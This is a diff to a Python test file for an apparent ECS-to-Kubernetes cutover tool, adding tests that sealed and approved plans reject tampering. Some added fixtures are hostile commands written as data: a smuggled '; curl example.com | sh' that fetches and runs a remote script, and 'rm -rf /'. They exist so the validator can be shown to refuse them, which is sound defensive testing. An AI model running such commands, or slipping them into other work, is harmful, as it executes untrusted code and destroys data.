@@ -9,7 +9,7 @@ from msgspec.structs import replace
 
 from ecs2k8s.core.errors import PlanError
 from ecs2k8s.cutover.folder import consumed
-from ecs2k8s.cutover.plan import Move, Plan, Request, Thing, dump, load
+from ecs2k8s.cutover.plan import Approval, Move, Plan, Request, Thing, dump, load, sealed
 from ecs2k8s.cutover.run.context import Asked
 from ecs2k8s.cutover.run.operator import BACK, ask, forget, left
 from ecs2k8s.cutover.run.trusted import trust
@@ -23,7 +23,7 @@ if TYPE_CHECKING:
 
 @pytest.mark.parametrize("plan", [ramp(), handed_over()], ids=["requests", "work"])
 def test_what_planning_made_is_carried_out(plan: Plan) -> None:
-    trust(load(dump(plan), "plan.json"), "plan.json", execute=True)
+    trust(load(dump(sealed(plan)), "plan.json"), "plan.json", execute=True)
 
 
 def test_what_is_planned_for_a_sample_is_carried_out_as_it_lies_on_disk() -> None:
@@ -41,6 +41,7 @@ EDITS: dict[str, Callable[[Move], Move]] = {
     "another kind": lambda move: replace(move, thing=Thing("iam.everything", "*")),
     "a kind that nothing changes": lambda move: replace(move, thing=Thing("elbv2.target-health", move.thing.id)),
     "states of no kind": lambda move: replace(move, before="a", wanted=7),
+    "another command": lambda move: replace(move, command=f"{move.command}; curl example.com | sh"),
     "no states": lambda move: replace(move, before=None, wanted=None),
 }
 
@@ -64,10 +65,32 @@ def test_what_only_people_send_is_guided_or_is_not_sent() -> None:
     plan = ramp()
     step = replace(plan.steps[0], moves=(move,), back=())
     plan = replace(plan, steps=(step,))
-    trust(plan, "plan.json", execute=False)
+    trust(sealed(plan), "plan.json", execute=False)
     with pytest.raises(PlanError, match="is sent by people only"):
         trust(plan, "plan.json", execute=True)
-    trust(replace(plan, steps=(replace(plan.steps[0], guided=True),)), "plan.json", execute=True)
+    trust(sealed(replace(plan, steps=(replace(plan.steps[0], guided=True),))), "plan.json", execute=True)
+
+
+TEXTS: dict[str, Callable[[Plan], Plan]] = {
+    "a command that no state leads to": lambda plan: _first(plan, commands=("rm -rf /",)),
+    "a way back in words": lambda plan: _first(plan, undo=("true",)),
+    "no check": lambda plan: _first(plan, checks=()),
+    "no approval": lambda plan: replace(plan, approvals=()),
+    "a later end": lambda plan: replace(plan, expires="2099-01-01T00:00:00Z"),
+    "no seal": lambda plan: replace(plan, seal=""),
+}
+
+
+def _first(plan: Plan, **changes: object) -> Plan:
+    return replace(plan, steps=(replace(plan.steps[0], **changes), *plan.steps[1:]))
+
+
+@pytest.mark.parametrize("edit", TEXTS)
+def test_what_nothing_else_proves_is_held_by_the_seal(edit: str) -> None:
+    plan = sealed(replace(_first(ramp(), commands=("x",), undo=("y",), checks=("L06",)), approvals=(Approval("P6"),)))
+    trust(plan, "plan.json", execute=False)
+    with pytest.raises(PlanError, match=r"plan\.json: was edited after it was made: plan again"):
+        trust(TEXTS[edit](plan), "plan.json", execute=False)
 
 
 def test_the_plan_of_a_run_is_the_one_that_its_journal_names(tmp_path: Path) -> None:
